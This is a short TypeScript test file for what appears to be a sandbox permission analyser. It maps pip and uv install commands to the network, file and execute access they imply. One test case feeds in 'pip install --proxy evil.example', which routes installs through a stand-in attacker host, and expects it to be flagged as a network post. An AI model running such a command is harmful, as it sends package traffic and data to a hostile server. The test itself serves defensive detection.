import { expect, test } from 'bun:test';
import { describe } from '../testing/describe-reading.ts';
import { readPip } from './read-pip.ts';

test.each([
  [
    'pip install -r requirements.txt',
    'write workspace:/p, network get:pypi.org, read /p/requirements.txt',
  ],
  [
    'pip install -r /tmp/req.txt',
    'write workspace:/p, network get:pypi.org, read /tmp/req.txt, execute program:pip',
  ],
  [
    'uv pip install -c https://a.example/c.txt x',
    'write workspace:/p, network get:pypi.org, network get:https://a.example/c.txt, execute program:uv',
  ],
  [
    'pip install --proxy evil.example x',
    'network post:evil.example, write workspace:/p, network get:pypi.org',
  ],
])('%s', (command, reading) => {
  expect(readPip).toBeFunction();
  expect(describe(command)).toBe(reading);
});
